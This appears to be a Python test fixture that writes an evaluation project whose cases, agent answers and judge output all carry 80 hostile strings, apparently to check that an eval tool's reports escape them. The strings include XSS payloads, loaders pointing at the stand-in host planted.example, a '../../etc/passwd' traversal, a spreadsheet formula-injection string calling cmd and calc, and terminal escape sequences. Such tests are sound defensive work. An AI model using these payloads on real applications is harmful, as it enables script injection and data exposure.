"""A run in which every text that a model or an author can write tries to leave its place.

There are 80 cases. Each has one payload, which is its id, question, expectation, tag, description,
metadata, evaluator and criterion, its answer, tool, arguments, result and error, and what the
judge says of it. Whatever of it a browser runs opens a dialog, and whatever it loads is at another
host; `guard` notices both.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import yaml

ELSEWHERE = "//planted.example"
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</pre></code></td></table><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    f'<script src="{ELSEWHERE}/a.js"></script>',
    f"<script type=module>import '{ELSEWHERE}/b.js'</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus="alert(1)" autofocus tabindex="0',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)`",
    "x onfocus=alert(1) autofocus",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "</svg><svg onload=alert(1)>",
    "</text></g></svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input onfocus=alert(1) autofocus>",
    "<select autofocus onfocus=alert(1)></select>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt&#58;alert(1))",
    "[click](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    '[x](https://good.example" onclick="alert(1))',
    "![x](x onerror=alert(1))",
    "{{ 7 * 7 }}{{ config }}{% for x in [1] %}alert(1){% endfor %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
)
_LOADERS = (
    f"<img src={ELSEWHERE}/c.png>",
    f"![picture](https:{ELSEWHERE}/d.png)",
    f"<link rel=stylesheet href={ELSEWHERE}/e.css>",
    f"<style>@import '{ELSEWHERE}/f.css';</style>",
    f"<p style=\"background: url('{ELSEWHERE}/g.png')\">x</p>",
    f"<base href={ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0; url={ELSEWHERE}/h'>",
    f"<form action={ELSEWHERE}/i><button autofocus>x</button></form>",
    "<style>* { display: none !important }</style>",
    "<plaintext>",
    "<!--",
    "<textarea>",
    "<div style='position:fixed;inset:0;background:red'>gone</div>",
)
_TEXTS = (
    "a/b",
    "../../etc/passwd",
    "100 % of #1?x=y&z=\\",
    "%2e%2e%2f%00%0a",
    "two\nlines\r\nthree",
    "tab\there",
    "\u202egnp.exe\u202c reversed \u2066isolate\u2069",
    "\u200bzero\u200dwidth\ufeff",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "\x07bell\x08back\x7fdelete",
    "e" + "\u0301" * 500,
    "\ufffe\uffff\U0010ffff",
    "🏳️‍🌈 أهلا שלום 你好 नमस्ते",
    "= 1 + 1",
    '@SUM(1+1)*cmd|"/c calc"!A0',
    "&lt;b&gt; &amp;amp; &#60;script&#62;",
    "\"quotes\" 'and' `ticks`",
    "constructor __proto__ toString hasOwnProperty",
    "a" * 300,
    "W" * 40 + " " * 3 + "i" * 40,
)
PAYLOADS = (*_SCRIPTS, *_LOADERS, *_TEXTS)
assert len(PAYLOADS) == 80
#: This many characters in one line.
LONG_LINE = 1_000_000

_AGENT = """
import json
from pathlib import Path

ANSWERS = json.loads(Path(__file__).with_name("answers.json").read_text(encoding="utf-8"))

def answer(message):
    return ANSWERS[int(message.partition(" ")[0])]

def answer_worse(message):
    found = answer(message)
    if int(message.partition(" ")[0]) % 8 == 3:
        return found | {"response": found["response"].partition(" <")[0] + " <b>now</b>"}
    return found

def judge(message):
    number = int(message.partition("case-number ")[2].split()[0])
    said = ANSWERS[number].get("planted", "")
    score = number % 4 / 3
    return json.dumps({"score": score, "hits": [said], "misses": [said], "reasoning": said})
"""
_CONFIG = {
    "targets": [
        {"name": "agent", "provider": "python", "callable": "agent:answer"},
        {"name": "worse", "provider": "python", "callable": "agent:answer_worse"},
    ],
    "judge": {"provider": "python", "callable": "agent:judge"},
    "defaults": {"target": "agent"},
}


def write_suites(root: Path) -> None:
    """Write the eval files and their agent to a project of their own."""
    (root / "agent.py").write_text(_AGENT, encoding="utf-8")
    (root / "assay.yaml").write_text(yaml.safe_dump(_CONFIG), encoding="utf-8")
    answers = [_answer(number, payload) for number, payload in enumerate(PAYLOADS)]
    (root / "answers.json").write_text(json.dumps(answers), encoding="utf-8")
    evals = root / "evals"
    evals.mkdir()
    # Names of files and suites are hostile too, as far as files can have such names.
    for start, name in ((0, "<img src=x onerror=alert(1)>"), (40, "100 % #1 & 'two' ?x=y")):
        cases = [_case(start + n, one) for n, one in enumerate(PAYLOADS[start : start + 40])]
        lines = "".join(json.dumps(case) + "\n" for case in cases)
        (evals / f"{name}.jsonl").write_text(lines, encoding="utf-8")
        suite = {"dataset": f"{name}</script>", "description": name}
        (evals / f"{name}.yaml").write_text(yaml.safe_dump(suite), encoding="utf-8")


def _case(number: int, payload: str) -> dict[str, Any]:
    named = payload if payload.strip() else "blank"
    judge = {"type": "llm_judge", "name": named, "prompt": f"{payload} {{{{candidate_answer}}}}"}
    calls = {
        "type": "tool_trajectory",
        "name": f"calls {named}",
        "mode": "in_order",
        "expected": [{"tool": f"expected {payload}", "args": {payload: payload}}],
    }
    return {
        "id": " ".join(f"{number} {payload}".splitlines()),  # an id has one line
        "description": payload,
        "input": f"{number} {payload}",
        "expected_output": payload,
        "expected_outcome": payload,
        "tags": [payload, "hostile"],
        "metadata": {"planted": payload},
        "evaluators": [
            judge if number % 2 else calls,
            {"type": "contains", "name": f"contains {named}", "value": payload},
        ],
    }


def _answer(number: int, payload: str) -> dict[str, Any]:
    if number % 10 == 9:
        return {"error": payload}
    long_line = "x" * LONG_LINE if number == 40 else ""
    call = {
        "name": payload,
        "params": {payload: [payload, {payload: None}]},
        "result": {payload: payload},
        "durationMs": 12.5,
        **({"error": payload} if number % 3 == 0 else {}),
    }
    return {
        "planted": payload,
        "response": f"case-number {number} {payload}{long_line}",
        "toolCalls": [call],
        "messages": [
            {"role": "user", "content": payload},
            {"role": "assistant", "content": f"case-number {number} {payload}{long_line}"},
        ],
        "notes": [payload],
        "usage": {"inputTokens": 10, "outputTokens": 20},
        "costUsd": 0.001,
    }
